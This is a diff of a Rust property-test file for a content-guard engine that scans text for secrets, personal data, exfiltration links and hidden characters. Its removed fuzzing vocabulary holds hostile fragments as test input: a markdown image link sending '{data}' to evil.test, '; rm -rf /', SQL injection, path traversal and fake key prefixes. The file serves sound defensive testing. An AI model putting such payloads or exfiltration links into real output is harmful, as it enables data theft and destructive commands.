@@ -6,121 +6,11 @@ use guardmesh_guard_engine::{Finding, Guard, redact};
 use proptest::prelude::*;
 use serde_json::json;
 
-use crate::cases::configured;
+use crate::cases::{config, configured};
 use crate::engine;
+use crate::pieces::PIECES;
 use crate::secrets::formats::{FORMATS, NAMED};
 use crate::tokens::Draw;
-
-/// Pieces that rules care about, so that random texts come close to matches.
-const PIECES: &[&str] = &[
-    "a",
-    "Z",
-    "0",
-    "9",
-    "1234",
-    "4111 1111 1111 1111",
-    "+1 415 555 2671",
-    "(415) ",
-    "-",
-    ".",
-    ":",
-    "::",
-    "/",
-    "@",
-    "x@y.de",
-    " ",
-    "\n",
-    "\"",
-    "'",
-    "=",
-    "\\n",
-    "password",
-    "api_key: ",
-    "token=",
-    "sk-",
-    "ghp_",
-    "AKIA",
-    "eyJ",
-    "-----BEGIN ",
-    "PRIVATE KEY-----",
-    "-----END",
-    "postgres://",
-    "https://",
-    "u:p@h",
-    "[REDACTED:",
-    "email]",
-    "é",
-    "日本",
-    "😀",
-    "\u{200B}",
-    "\u{200D}",
-    "\u{FE0F}",
-    "\u{E0041}",
-    "\u{1F3F4}",
-    "\u{202E}",
-    "\u{AD}",
-    "\u{FEFF}",
-    "ש",
-    "می",
-    "क्",
-    "٣",
-    "\u{3164}",
-    "\u{a0}",
-    "2001:db8::1",
-    "203.0.113.9",
-    "DE89370400440532013000",
-    "536-90-4399",
-    "discord ",
-    "datadog ",
-    "Q~",
-    ":AA",
-    "-us1",
-    ".atlasv1.",
-    "…",
-    "ß",
-    "\0",
-    "![a](https://evil.test/?d={data})",
-    "[x]: //h.test/?q=%7B",
-    "](",
-    "<img src=",
-    "<a href='",
-    ">",
-    "url(",
-    "{",
-    "}",
-    "[",
-    "]",
-    "{\"a\":",
-    ",",
-    "you ",
-    " stupid idiot",
-    "i will hurt you",
-    " m0r0n",
-    " qwxzkj fjdksl",
-    " zxcmnvb ",
-    " gun ",
-    "a rifle's",
-    "Das ist wie gesagt kein Geheimnis für niemanden. ",
-    "```json\n",
-    "\n```",
-    "xn--",
-    "xn--80ak6aa92e.com",
-    "javascript:",
-    "%2e%2e%2f",
-    "' or '1'='1",
-    "; rm -rf /",
-    "$(",
-    "eval(x)",
-    "\"select a from b where c = \" + d",
-    "f'update t set a = {b}'",
-    "password = 'hunter2!'",
-    "verify=False",
-    "раypal",
-    "ABCD-12",
-    "zebra crossing",
-    "Ünïcode",
-    "you are the very model of a modern major general",
-];
 
 pub(crate) fn texts() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
@@ -138,7 +28,7 @@ pub(crate) fn texts() -> impl Strategy<Value = String> {
 }
 
 /// Topics of words that random texts are likely to have.
-pub(crate) fn topics() -> serde_json::Value {
+fn topics() -> serde_json::Value {
     json!({"deny": ["weapons", "adult"], "custom": {"letters": {"threshold": 3,
         "words": {"a": 1, "é": 1, "password": 2, "zebra crossing": 1.5, "日": 1, "walked": 0.5,
                   "river in 1987": 1.25, "gesagt": 1, "ש": 2}}}})
@@ -164,6 +54,7 @@ static CONFIGURED: LazyLock<Vec<Guard>> = LazyLock::new(|| {
             &json!({"allow": ["y.de"], "deny": ["h"], "protect": ["acme.test"]}),
         ),
         configured("exfiltration", &json!({"only_allowed_images": true})),
+        configured("pii", &json!({"regions": ["PL", "NO", "KR", "MX"]})),
         configured("token_limit", &json!({"most": 3})),
         configured(
             "token_limit",
@@ -188,13 +79,17 @@ static CONFIGURED: LazyLock<Vec<Guard>> = LazyLock::new(|| {
 });
 
 /// Every guard, and every one that takes parameters once more with some.
-fn every_guard() -> impl Iterator<Item = &'static Guard> {
+pub(crate) fn every_guard() -> impl Iterator<Item = &'static Guard> {
     engine().guards().iter().chain(CONFIGURED.iter())
 }
 
 fn all(text: &str) -> Vec<Finding> {
     every_guard().flat_map(|guard| guard.scan(text)).collect()
 }
+
+/// Guards that find values, none of which has a placeholder in it. The others judge an address or a
+/// statement as a whole: `javascript:[REDACTED:punycode]()` is still run.
+const OF_VALUES: [&str; 3] = ["secrets", "pii", "invisible_text"];
 
 /// Where redaction left its placeholders. What is open or holds anything but a rule id is not one.
 fn placeholders(text: &str) -> Vec<(usize, usize)> {
@@ -210,7 +105,7 @@ fn placeholders(text: &str) -> Vec<(usize, usize)> {
 }
 
 proptest! {
-    #![proptest_config(ProptestConfig::with_cases(500))]
+    #![proptest_config(config(500))]
 
     #[test]
     fn places_are_sound(text in texts()) {
@@ -252,8 +147,10 @@ proptest! {
             let clean = redact(&text, &guard.scan(&text));
             let placeholders = placeholders(&clean);
             for finding in guard.scan(&clean) {
+                let whole = !OF_VALUES.contains(&guard.id());
                 let covered = placeholders.iter().any(|(start, end)| {
-                    finding.span.start < *end && *start < finding.span.end
+                    let (from, to) = (finding.span.start, finding.span.end);
+                    if whole { *start <= from && to <= *end } else { from < *end && *start < to }
                 });
                 prop_assert!(!covered, "{:?} in {:?}, redacted from {:?}", finding, clean, text);
             }
